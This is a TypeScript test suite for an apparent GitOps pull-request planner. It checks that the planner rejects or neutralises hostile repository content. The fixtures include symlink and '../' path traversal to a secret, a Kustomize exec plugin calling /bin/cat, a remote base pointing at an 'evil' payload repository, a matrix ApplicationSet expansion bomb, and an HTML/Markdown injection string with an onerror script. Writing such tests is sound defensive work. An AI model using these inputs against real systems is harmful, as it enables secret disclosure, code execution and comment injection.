import { describe, expect, it } from 'vitest';
import { application, CANARY, CHART, planHostile } from './hostile-repo.ts';

const cm = (name: string, data: string) =>
  `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: ${JSON.stringify(name)}\ndata:\n  v: ${JSON.stringify(data)}\n`;

/** Markdown outside code blocks and code spans (inside them, nothing renders as HTML or a mention). */
function outsideCodeFences(markdown: string): string {
  const out: string[] = [];
  let fence: string | undefined;
  for (const line of markdown.split('\n')) {
    const marker = /^\s*(`{3,}|~{3,})/.exec(line)?.[1];
    if (fence === undefined && marker !== undefined) fence = marker;
    else if (fence !== undefined && marker !== undefined && line.trim() === fence) fence = undefined;
    else if (fence === undefined) out.push(line.replace(/(`+)(?:(?!\1).)+\1/g, ''));
  }
  return out.join('\n');
}

describe('what a pull request cannot reach (cases that held before, kept as a suite)', () => {
  it('refuses a Helm value file that is a symlink out of the checkout', async () => {
    const plan = await planHostile({
      base: { ...CHART, 'apps/web.yaml': application('web', 'path: charts/web') },
      head: {
        'charts/web/prod.yaml': { symlink: '@SECRET@' },
        'apps/web.yaml': application('web', 'path: charts/web\nhelm:\n  valueFiles: [prod.yaml]'),
      },
    });
    expect(plan.app('web').error).toMatch(/symlink/i);
  });

  it('refuses a manifest directory that is a symlink out of the checkout', async () => {
    const plan = await planHostile({
      head: { 'apps/dir.yaml': application('dir', 'path: linked'), linked: { symlink: '@SECRET@/..' } },
    });
    expect(plan.app('dir').status).toBe('error');
  });

  it('refuses paths that climb out of the checkout', async () => {
    const plan = await planHostile({
      base: { ...CHART, 'apps/web.yaml': application('web', 'path: charts/web') },
      head: {
        'apps/web.yaml': application(
          'web',
          'path: charts/web\nhelm:\n  valueFiles: ["../../../../../../@SECRET@"]',
        ),
        'apps/up.yaml': application('up', 'path: ../../../../../../../tmp'),
      },
    });
    expect(plan.app('web').error).toContain('leaves the repository');
    expect(plan.app('up').error).toContain('leaves the repository');
  });

  it('refuses Kustomize exec plugins and remote bases', async () => {
    const plan = await planHostile({
      head: {
        'apps/exec.yaml': application('exec', 'path: exec'),
        'exec/kustomization.yaml': 'resources:\n  - cm.yaml\ngenerators:\n  - gen.yaml\n',
        'exec/cm.yaml': cm('a', 'b'),
        'exec/gen.yaml':
          'apiVersion: example.com/v1\nkind: Leak\nmetadata:\n  name: g\n  annotations:\n    config.kubernetes.io/function: |\n      exec:\n        path: /bin/cat\n',
        'apps/remote.yaml': application('remote', 'path: remote'),
        'remote/kustomization.yaml': 'resources:\n  - https://github.com/evil/payload//base?ref=main\n',
      },
    });
    expect(plan.app('exec').error).toContain('plugins are not allowed');
    expect(plan.app('remote').status).toBe('error');
  });

  it('plans an app-of-apps cycle once and completes', async () => {
    const parent = application('parent', 'path: parents');
    const plan = await planHostile({
      head: {
        'apps/parent.yaml': parent,
        'parents/self.yaml': parent,
        'parents/child.yaml': application('child', 'path: good'),
      },
    });
    expect(plan.report.apps.filter((a) => a.name === 'parent')).toHaveLength(1);
  });

  it('refuses an ApplicationSet that would expand past its budget', async () => {
    const elements = Array.from({ length: 200 }, (_, i) => `        - n: "${i}"`).join('\n');
    const plan = await planHostile({
      head: {
        'apps/explode.yaml': `apiVersion: argoproj.io/v1alpha1
kind: ApplicationSet
metadata:
  name: explode
  namespace: argocd
spec:
  generators:
    - matrix:
        generators:
          - list:
              elements:
${elements.replaceAll('        - ', '                - ')}
          - list:
              elements:
${elements.replaceAll('        - ', '                - ').replaceAll('n:', 'm:')}
  template:
    metadata:
      name: 'x-{{n}}-{{m}}'
    spec:
      project: default
      source: { repoURL: https://github.com/acme/gitops.git, path: good, targetRevision: HEAD }
      destination: { server: https://kubernetes.default.svc, namespace: x }
`,
      },
    });
    const error = plan.report.apps.find((a) => a.origin === 'applicationset:explode');
    expect(error?.error).toContain('more than 10000 parameter sets');
  });

  it('escapes HTML, Markdown and @mentions from rendered content in the comment', async () => {
    const hostile = '</details><img src=x onerror=alert(1)> @acme/admins **bold** [x](https://evil.example)';
    const plan = await planHostile({
      head: {
        'apps/inject.yaml': application('inject', 'path: inject'),
        'inject/cm.yaml': cm(hostile, hostile),
        // Its error message (gates, errors) carries the hostile file name as prose.
        'apps/web.yaml': application(
          'web',
          `path: charts/web\nhelm:\n  valueFiles: [${JSON.stringify(hostile)}]`,
        ),
        ...CHART,
      },
    });
    expect(plan.app('web').error).toContain('not found');
    const prose = outsideCodeFences(plan.markdown);
    expect(prose).toContain('&lt;img');
    expect(prose).not.toContain('<img');
    expect(prose).not.toContain('</details><img');
    expect(prose).not.toMatch(/@acme\/admins/);
    expect(prose).not.toContain('](https://evil.example)');
  });

  it('redacts Secrets inside nested Lists and inside other objects', async () => {
    const secret = (indent: string) =>
      ['apiVersion: v1', 'kind: Secret', 'metadata:', '  name: hidden', 'stringData:', `  token: ${CANARY}`]
        .map((l, i) => `${indent}${i === 0 ? '- ' : '  '}${l}`)
        .join('\n');
    const plan = await planHostile({
      head: {
        'apps/nested.yaml': application('nested', 'path: nested'),
        'nested/list.yaml': `apiVersion: v1
kind: List
items:
  - apiVersion: v1
    kind: List
    metadata:
      name: inner
    items:
${secret('      ')}
`,
        'nested/object.yaml': `apiVersion: kubernetes.crossplane.io/v1alpha2
kind: Object
metadata:
  name: wraps-a-secret
spec:
  forProvider:
    manifest:
      apiVersion: v1
      kind: Secret
      metadata:
        name: wrapped
      data:
        token: ${Buffer.from(CANARY).toString('base64')}
`,
      },
    });
    const nested = plan.app('nested');
    expect(nested.status).toBe('added');
    const diffs = (nested.resources ?? []).map((r) => r.diff).join('\n');
    expect(diffs).toContain('++++++++');
    expect(plan.json).not.toContain(Buffer.from(CANARY).toString('base64'));
  });
});
